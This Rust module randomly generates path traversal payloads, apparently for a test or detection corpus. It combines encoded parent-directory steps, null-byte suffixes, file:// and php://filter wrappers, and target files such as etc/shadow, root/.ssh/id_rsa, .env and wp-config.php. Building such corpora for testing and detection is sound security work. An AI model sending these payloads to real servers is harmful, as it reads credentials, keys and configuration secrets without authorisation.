//! Path traversal grammar: parent steps, target file, encodings.

use rand::Rng;

use super::{pick, CorpusRng};

const UNIX: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "proc/self/environ",
    "var/log/apache2/access.log",
    "root/.ssh/id_rsa",
    "etc/issue",
];
const WINDOWS: &[&str] = &[
    "windows\\win.ini",
    "boot.ini",
    "windows\\system32\\drivers\\etc\\hosts",
    "winnt\\win.ini",
    "inetpub\\wwwroot\\web.config",
];
const APP: &[&str] = &[
    "WEB-INF/web.xml",
    ".env",
    ".git/config",
    "config/database.yml",
    "wp-config.php",
    ".htpasswd",
];
const STEPS: &[&str] = &[
    "../",
    "..\\",
    "%2e%2e%2f",
    "%2e%2e/",
    "..%2f",
    "%252e%252e%252f",
    "..%c0%af",
    "....//",
    "..%5c",
    "%2e%2e%5c",
    "..;/",
    "..%252f",
];

/// One path traversal payload.
pub fn generate(rng: &mut CorpusRng) -> String {
    let step = pick(rng, STEPS);
    let depth = rng.gen_range(1..9);
    let ups = step.repeat(depth);
    let null = if rng.gen_ratio(1, 8) {
        pick(rng, &["%00", "%00.jpg", "%00.png"])
    } else {
        ""
    };
    match rng.gen_range(0..10) {
        0..=4 => {
            let t = pick(rng, UNIX);
            let t = if step.contains('\\') || step.contains("5c") {
                t.replace('/', "\\")
            } else {
                t.to_string()
            };
            format!("{ups}{t}{null}")
        }
        5 | 6 => format!("{}{}{null}", step.repeat(depth.max(2)), pick(rng, WINDOWS)),
        7 => format!("{}{}", step.repeat(depth.max(1)), pick(rng, APP)),
        // Absolute paths: Unix roots with Unix files, drives with Windows files.
        8 => {
            if rng.gen_bool(0.5) {
                format!(
                    "{}{}",
                    pick(rng, &["/", "file:///"]),
                    pick(rng, &["etc/passwd", "proc/self/environ", "etc/shadow"])
                )
            } else {
                format!(
                    "{}{}",
                    pick(rng, &["c:\\", "C:/", "file:///c:/"]),
                    pick(
                        rng,
                        &[
                            "windows/win.ini",
                            "boot.ini",
                            "windows\\system32\\drivers\\etc\\hosts"
                        ]
                    )
                )
            }
        }
        _ => format!(
            "php://filter/convert.base64-encode/resource={}",
            pick(rng, &["index.php", "../config.php", "/etc/passwd"])
        ),
    }
}
